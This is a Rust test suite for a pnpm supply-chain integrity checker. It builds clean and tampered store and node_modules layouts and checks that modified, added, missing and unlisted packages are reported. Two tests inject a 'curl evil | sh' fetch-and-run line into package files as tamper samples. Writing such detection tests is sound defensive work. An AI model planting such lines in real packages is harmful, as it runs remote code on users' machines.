//! pnpm: a store (v3 as pnpm 9 writes it, v10 as pnpm 10 writes it) and a
//! `node_modules/.pnpm` tree laid out as pnpm leaves them, built from the real index files
//! and package files of three packages and the real lockfile of that install
//! (`tests/fixtures/pnpm/`), clean and tampered.

use std::path::{Path, PathBuf};

use chainward_integrity::{Options, Outcome, verify};
use chainward_types::{FindingCode, Hash, HashAlgorithm};

/// The installed packages, with the integrity the lockfile pins.
const PACKAGES: [(&str, &str, &str); 3] = [
    (
        "is-number",
        "7.0.0",
        "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
    ),
    (
        "isexe",
        "2.0.0",
        "sha512-RHxMLp9lnKHGHRng9QFhRCMbYAcVpn69smSGcq3f36xjgVVWThj4qqLbTLlq7Ssj8B+fIQ1EuCEGI2lKsyQeIw==",
    ),
    (
        "which",
        "2.0.2",
        "sha512-BLI3Tl1TW3Pvl70l3yq3Y64i+awpwXqsGBYWkkqMtnbXgrMD+yj7rhW0kuEDxzJaYXGjEW5ogapKNMEKNMjibA==",
    ),
];

/// Files of the fixture packages, as their store indexes list them.
const FILE_COUNT: u64 = 4 + 8 + 6;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/pnpm")
        .join(name)
}

fn hex_of(sri: &str) -> String {
    Hash::from_sri(sri).unwrap().remove(0).hex
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum StoreLayout {
    /// pnpm 7 to 9: `store/v3/files/xx/...-index.json`.
    V3,
    /// pnpm 10: `store/v10/index/xx/...-name@version.json`.
    V10,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Import {
    /// pnpm's default: installed files are hard links to the store's content files.
    HardLink,
    /// `package-import-method=copy`.
    Copy,
}

/// A temp folder with `store/<v3|v10>/` and `project/` (lockfile and `node_modules`).
struct Layout {
    _tmp: tempfile::TempDir,
    store: PathBuf,
    project: PathBuf,
}

impl Layout {
    /// A clean install of the fixture lockfile, as pnpm leaves it.
    fn installed(layout: StoreLayout, import: Import) -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let version = match layout {
            StoreLayout::V3 => "v3",
            StoreLayout::V10 => "v10",
        };
        let store = tmp.path().join("store").join(version);
        let project = tmp.path().join("project");
        let vstore = project.join("node_modules/.pnpm");
        fs_err::create_dir_all(&vstore).unwrap();
        fs_err::copy(fixture("pnpm-lock.yaml"), project.join("pnpm-lock.yaml")).unwrap();
        // pnpm keeps a copy of the lockfile in the virtual store.
        fs_err::copy(fixture("pnpm-lock.yaml"), vstore.join("lock.yaml")).unwrap();
        for (name, ver, integrity) in PACKAGES {
            let id = format!("{name}@{ver}");
            let hex = hex_of(integrity);
            let index_file = match layout {
                StoreLayout::V3 => {
                    let index = fixture(&format!("index-v3/{id}.json"));
                    let to = store
                        .join("files")
                        .join(&hex[..2])
                        .join(format!("{}-index.json", &hex[2..]));
                    (index, to)
                }
                StoreLayout::V10 => {
                    let index = fixture(&format!("index-v10/{id}.json"));
                    let to = store
                        .join("index")
                        .join(&hex[..2])
                        .join(format!("{}-{id}.json", &hex[2..64]));
                    (index, to)
                }
            };
            fs_err::create_dir_all(index_file.1.parent().unwrap()).unwrap();
            fs_err::copy(&index_file.0, &index_file.1).unwrap();
            let index: serde_json::Value =
                serde_json::from_slice(&fs_err::read(&index_file.0).unwrap()).unwrap();
            let installed = vstore.join(&id).join("node_modules").join(name);
            for (rel, info) in index["files"].as_object().unwrap() {
                let bytes = fs_err::read(fixture(&format!("package/{id}/{rel}"))).unwrap();
                let file_hex = hex_of(info["integrity"].as_str().unwrap());
                let exec = info["mode"].as_u64().unwrap() & 0o111 != 0;
                let content = store.join("files").join(&file_hex[..2]).join(format!(
                    "{}{}",
                    &file_hex[2..],
                    if exec { "-exec" } else { "" }
                ));
                fs_err::create_dir_all(content.parent().unwrap()).unwrap();
                fs_err::write(&content, &bytes).unwrap();
                let target = installed.join(rel);
                fs_err::create_dir_all(target.parent().unwrap()).unwrap();
                match import {
                    Import::HardLink => fs_err::hard_link(&content, &target).unwrap(),
                    Import::Copy => fs_err::write(&target, &bytes).unwrap(),
                }
            }
        }
        // The command shim pnpm writes for `which`'s own bin.
        let bin = vstore.join("which@2.0.2/node_modules/which/node_modules/.bin");
        fs_err::create_dir_all(&bin).unwrap();
        fs_err::copy(fixture("which-bin-shim.sh"), bin.join("node-which")).unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::symlink;
            let nm = project.join("node_modules");
            symlink(
                ".pnpm/is-number@7.0.0/node_modules/is-number",
                nm.join("is-number"),
            )
            .unwrap();
            symlink(".pnpm/which@2.0.2/node_modules/which", nm.join("which")).unwrap();
            symlink(
                "../../isexe@2.0.0/node_modules/isexe",
                vstore.join("which@2.0.2/node_modules/isexe"),
            )
            .unwrap();
            fs_err::create_dir_all(vstore.join("node_modules")).unwrap();
            symlink(
                "../isexe@2.0.0/node_modules/isexe",
                vstore.join("node_modules/isexe"),
            )
            .unwrap();
        }
        let layout_dir = store.to_string_lossy().into_owned();
        let modules = match layout {
            StoreLayout::V3 => fs_err::read_to_string(fixture("modules-v9.yaml"))
                .unwrap()
                .replace("/root/.local/share/pnpm/store/v3", &layout_dir),
            StoreLayout::V10 => fs_err::read_to_string(fixture("modules-v10.yaml"))
                .unwrap()
                .replace("/root/.local/share/pnpm/store/v10", &layout_dir),
        };
        assert!(modules.contains(&layout_dir), "storeDir not replaced");
        fs_err::write(project.join("node_modules/.modules.yaml"), modules).unwrap();
        Self {
            _tmp: tmp,
            store,
            project,
        }
    }

    fn installed_file(&self, id: &str, rel: &str) -> PathBuf {
        let name = id.rsplit_once('@').unwrap().0;
        self.project
            .join("node_modules/.pnpm")
            .join(id)
            .join("node_modules")
            .join(name)
            .join(rel)
    }

    /// The store content file of an installed file (found by its hash, as pnpm does).
    fn content_file(&self, id: &str, rel: &str) -> PathBuf {
        let hex = hex_of(
            &Hash::from_bytes(
                HashAlgorithm::Sha512,
                &sha512(&fs_err::read(fixture(&format!("package/{id}/{rel}"))).unwrap()),
            )
            .unwrap()
            .to_sri(),
        );
        let plain = self.store.join("files").join(&hex[..2]).join(&hex[2..]);
        if plain.exists() {
            plain
        } else {
            plain.with_file_name(format!("{}-exec", &hex[2..]))
        }
    }

    fn verify_with(&self, options: &Options) -> Outcome {
        let sources = chainward_extract::read_sources(
            &[self.project.join("pnpm-lock.yaml")],
            &chainward_extract::Options::default(),
        )
        .unwrap();
        verify(&sources, options)
    }

    fn verify(&self) -> Outcome {
        self.verify_with(&Options::default())
    }
}

fn sha512(bytes: &[u8]) -> Vec<u8> {
    use sha2::Digest as _;
    sha2::Sha512::digest(bytes).to_vec()
}

/// The integrity findings (origin hygiene is checked elsewhere), as (code, package, file).
fn integrity_findings(out: &Outcome) -> Vec<(FindingCode, String, String)> {
    out.findings
        .iter()
        .filter(|f| {
            matches!(
                f.code,
                FindingCode::IntegrityMismatch
                    | FindingCode::FileModified
                    | FindingCode::FileAdded
                    | FindingCode::FileMissing
                    | FindingCode::NotInLockfile
                    | FindingCode::NotInstalled
                    | FindingCode::UnsafeArchiveEntry
            )
        })
        .map(|f| {
            let file = f
                .evidence
                .as_ref()
                .and_then(|e| e.file.clone())
                .unwrap_or_default();
            let file = file
                .rsplit_once("node_modules/.pnpm/")
                .map_or(file.clone(), |(_, rest)| format!(".pnpm/{rest}"));
            (
                f.code,
                format!("{}@{}", f.package.name, f.package.version),
                file,
            )
        })
        .collect()
}

fn assert_clean(out: &Outcome) {
    assert_eq!(integrity_findings(out), vec![], "{:#?}", out.findings);
    assert_eq!(out.unchecked, vec![]);
    assert_eq!(out.stats.packages, 3);
    assert_eq!(out.stats.files, FILE_COUNT);
}

#[test]
fn clean_pnpm9_install_with_hard_links_has_no_findings() {
    let layout = Layout::installed(StoreLayout::V3, Import::HardLink);
    let out = layout.verify();
    assert_clean(&out);
    // The optional `fsevents` (darwin only) is not installed and not a finding.
    assert!(!out.findings.iter().any(|f| f.package.name == "fsevents"));
}

#[test]
fn clean_pnpm10_install_with_copies_has_no_findings() {
    let layout = Layout::installed(StoreLayout::V10, Import::Copy);
    assert_clean(&layout.verify());
}

#[test]
fn finds_the_store_from_the_folder_above_the_versioned_stores() {
    let layout = Layout::installed(StoreLayout::V10, Import::Copy);
    fs_err::write(
        layout.project.join("node_modules/.modules.yaml"),
        r#"{"virtualStoreDir": ".pnpm", "skipped": ["fsevents@2.3.3"]}"#,
    )
    .unwrap();
    let out = layout.verify_with(&Options {
        pnpm_store: Some(layout.store.parent().unwrap().to_path_buf()),
        ..Options::default()
    });
    assert_clean(&out);
}

#[test]
fn detects_modified_installed_file() {
    let layout = Layout::installed(StoreLayout::V3, Import::Copy);
    let file = layout.installed_file("is-number@7.0.0", "index.js");
    let mut text = fs_err::read_to_string(&file).unwrap();
    text.push_str("\nrequire('child_process').exec('curl evil | sh');\n");
    fs_err::write(&file, text).unwrap();
    let out = layout.verify();
    assert_eq!(
        integrity_findings(&out),
        [(
            FindingCode::FileModified,
            "is-number@7.0.0".to_owned(),
            ".pnpm/is-number@7.0.0/node_modules/is-number/index.js".to_owned()
        )]
    );
    let evidence = out.findings[0].evidence.as_ref().unwrap();
    assert_eq!(
        evidence.expected.as_ref().unwrap().algorithm,
        HashAlgorithm::Sha512
    );
    assert_ne!(evidence.expected, evidence.actual);
    assert_eq!(out.unchecked, vec![]);
}

#[test]
fn detects_added_file() {
    let layout = Layout::installed(StoreLayout::V10, Import::Copy);
    let payload = layout.installed_file("which@2.0.2", "lib/payload.js");
    fs_err::create_dir_all(payload.parent().unwrap()).unwrap();
    fs_err::write(&payload, "module.exports = 1;\n").unwrap();
    let out = layout.verify();
    assert_eq!(
        integrity_findings(&out),
        [(
            FindingCode::FileAdded,
            "which@2.0.2".to_owned(),
            ".pnpm/which@2.0.2/node_modules/which/lib/payload.js".to_owned()
        )]
    );
    assert!(out.findings[0].evidence.as_ref().unwrap().actual.is_some());
}

#[test]
fn detects_removed_file() {
    let layout = Layout::installed(StoreLayout::V3, Import::HardLink);
    fs_err::remove_file(layout.installed_file("isexe@2.0.0", "mode.js")).unwrap();
    let out = layout.verify();
    assert_eq!(
        integrity_findings(&out),
        [(
            FindingCode::FileMissing,
            "isexe@2.0.0".to_owned(),
            ".pnpm/isexe@2.0.0/node_modules/isexe/mode.js".to_owned()
        )]
    );
}

#[test]
fn detects_tampered_store_content_file() {
    let layout = Layout::installed(StoreLayout::V3, Import::Copy);
    let content = layout.content_file("which@2.0.2", "bin/node-which");
    assert!(content.to_string_lossy().ends_with("-exec"));
    fs_err::write(&content, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let out = layout.verify();
    let found = integrity_findings(&out);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, FindingCode::IntegrityMismatch);
    assert_eq!(found[0].1, "which@2.0.2");
    assert_eq!(found[0].2, content.display().to_string());
}

#[test]
fn detects_tampering_through_a_hard_link_in_the_tree_and_the_store() {
    let layout = Layout::installed(StoreLayout::V10, Import::HardLink);
    let file = layout.installed_file("is-number@7.0.0", "index.js");
    let content = layout.content_file("is-number@7.0.0", "index.js");
    fs_err::write(&file, "module.exports = () => true;\n").unwrap();
    let out = layout.verify();
    let mut codes: Vec<_> = integrity_findings(&out).into_iter().map(|f| f.0).collect();
    codes.sort();
    assert_eq!(
        codes,
        [FindingCode::IntegrityMismatch, FindingCode::FileModified]
    );
    assert!(
        out.findings
            .iter()
            .any(|f| f.evidence.as_ref().unwrap().file == Some(content.display().to_string()))
    );
}

#[test]
fn reports_folder_in_virtual_store_not_in_lockfile() {
    let layout = Layout::installed(StoreLayout::V3, Import::Copy);
    let evil = layout
        .project
        .join("node_modules/.pnpm/@evil+pkg@1.0.0_is-number@7.0.0/node_modules/@evil/pkg");
    fs_err::create_dir_all(&evil).unwrap();
    fs_err::write(evil.join("index.js"), "x").unwrap();
    let out = layout.verify();
    assert_eq!(
        integrity_findings(&out),
        [(
            FindingCode::NotInLockfile,
            "@evil/pkg@1.0.0".to_owned(),
            ".pnpm/@evil+pkg@1.0.0_is-number@7.0.0".to_owned()
        )]
    );
}

#[test]
fn reports_locked_package_not_installed_but_not_a_skipped_optional_one() {
    let layout = Layout::installed(StoreLayout::V3, Import::Copy);
    fs_err::remove_dir_all(layout.project.join("node_modules/.pnpm/isexe@2.0.0")).unwrap();
    let out = layout.verify();
    let found = integrity_findings(&out);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].0, found[0].1.as_str()),
        (FindingCode::NotInstalled, "isexe@2.0.0")
    );
    // The evidence names the virtual store that lacks it.
    assert!(found[0].2.ends_with("node_modules/.pnpm"), "{found:?}");
}

#[test]
fn accepts_a_patched_package_the_index_records_as_a_side_effect() {
    let layout = Layout::installed(StoreLayout::V10, Import::Copy);
    let patched = "module.exports = function isNumber() { return true; };\n";
    let file = layout.installed_file("is-number@7.0.0", "index.js");
    fs_err::write(&file, patched).unwrap();
    // pnpm 10 records a patch as a side effect: the files it adds or replaces.
    let hex = hex_of(PACKAGES[0].2);
    let index = layout
        .store
        .join("index")
        .join(&hex[..2])
        .join(format!("{}-is-number@7.0.0.json", &hex[2..64]));
    let mut json: serde_json::Value =
        serde_json::from_slice(&fs_err::read(&index).unwrap()).unwrap();
    let integrity = Hash::from_bytes(HashAlgorithm::Sha512, &sha512(patched.as_bytes()))
        .unwrap()
        .to_sri();
    json["sideEffects"] = serde_json::json!({
        "linux;x64;node20;patch=56fbd88c": {
            "added": {"index.js": {"checkedAt": 1, "integrity": integrity, "mode": 420, "size": patched.len()}}
        }
    });
    fs_err::write(&index, serde_json::to_vec(&json).unwrap()).unwrap();
    let content = hex_of(&integrity);
    let content = layout
        .store
        .join("files")
        .join(&content[..2])
        .join(&content[2..]);
    fs_err::create_dir_all(content.parent().unwrap()).unwrap();
    fs_err::write(content, patched).unwrap();
    let out = layout.verify();
    assert_eq!(integrity_findings(&out), vec![]);
    assert_eq!(out.unchecked, vec![]);
}

#[test]
fn reports_missing_store_index_as_unchecked() {
    let layout = Layout::installed(StoreLayout::V3, Import::Copy);
    let hex = hex_of(PACKAGES[2].2);
    fs_err::remove_file(
        layout
            .store
            .join("files")
            .join(&hex[..2])
            .join(format!("{}-index.json", &hex[2..])),
    )
    .unwrap();
    let out = layout.verify();
    assert_eq!(integrity_findings(&out), vec![]);
    assert_eq!(out.unchecked.len(), 1, "{:?}", out.unchecked);
    assert_eq!(out.unchecked[0].path, "pkg:npm/which@2.0.2");
    assert_eq!(out.stats.packages, 2);
}

#[test]
fn reports_unknown_store_and_missing_tree_as_unchecked() {
    let layout = Layout::installed(StoreLayout::V3, Import::Copy);
    fs_err::remove_dir_all(layout.project.join("node_modules")).unwrap();
    let out = layout.verify();
    assert_eq!(integrity_findings(&out), vec![]);
    let messages: Vec<&str> = out.unchecked.iter().map(|u| u.message.as_str()).collect();
    assert_eq!(messages.len(), 2, "{messages:?}");
    assert!(messages.iter().any(|m| m.contains("store is unknown")));
    assert!(messages.iter().any(|m| m.contains("not installed")));

    // With the store given, its content files are still checked.
    let out = layout.verify_with(&Options {
        pnpm_store: Some(layout.store.clone()),
        ..Options::default()
    });
    assert_eq!(out.unchecked.len(), 1, "{:?}", out.unchecked);
    assert_eq!(out.stats.packages, 3);
    assert_eq!(out.stats.files, 0);
}

#[test]
fn checks_packages_in_a_global_virtual_store() {
    // pnpm 10 `enableGlobalVirtualStore: true`: the package folders are in the store's
    // `links/<scope or @>/<name>/<version>/<hash>/`, and `.modules.yaml` points there.
    let layout = Layout::installed(StoreLayout::V10, Import::HardLink);
    let links = layout.store.join("links");
    for (name, version, _) in PACKAGES {
        let to = links
            .join("@")
            .join(name)
            .join(version)
            .join("0b0c5f1ca427");
        fs_err::create_dir_all(&to).unwrap();
        fs_err::rename(
            layout
                .project
                .join("node_modules/.pnpm")
                .join(format!("{name}@{version}"))
                .join("node_modules"),
            to.join("node_modules"),
        )
        .unwrap();
        fs_err::remove_dir_all(
            layout
                .project
                .join("node_modules/.pnpm")
                .join(format!("{name}@{version}")),
        )
        .unwrap();
    }
    // Another project's package in the shared store is not a finding.
    fs_err::create_dir_all(links.join("@/left-pad/1.3.0/0123/node_modules/left-pad")).unwrap();
    let modules = layout.project.join("node_modules/.modules.yaml");
    let text = fs_err::read_to_string(&modules).unwrap().replace(
        r#""virtualStoreDir": ".pnpm""#,
        r#""virtualStoreDir": "../../store/v10/links""#,
    );
    fs_err::write(&modules, text).unwrap();
    assert_clean(&layout.verify());

    fs_err::write(
        links.join("@/which/2.0.2/0b0c5f1ca427/node_modules/which/which.js"),
        "evil",
    )
    .unwrap();
    let found = integrity_findings(&layout.verify());
    assert!(
        found
            .iter()
            .any(|f| f.0 == FindingCode::FileModified
                && f.2.ends_with("node_modules/which/which.js")),
        "{found:?}"
    );
}
